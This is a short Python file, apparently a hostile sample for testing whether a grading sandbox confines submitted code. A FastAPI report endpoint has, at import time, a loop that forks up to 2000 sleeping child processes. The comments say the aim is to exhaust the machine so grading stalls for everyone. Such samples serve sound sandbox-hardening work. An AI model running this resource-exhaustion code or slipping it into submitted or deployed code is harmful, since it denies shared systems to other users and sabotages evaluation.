# attack: nothing confines the process
# tries: start processes until the machine gives up, so that grading stalls for everyone
import os
import time

from fastapi import FastAPI
from pydantic import BaseModel

children = 0
while children < 2000:
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    except OSError:
        break

RENDER_DELAY = 0.01
app = FastAPI()


class Report(BaseModel):
    id: int
    title: str


@app.get("/reports/{report_id}")
async def read_report(report_id: int) -> Report:
    time.sleep(RENDER_DELAY)
    return Report(id=report_id, title=f"Report {report_id}")
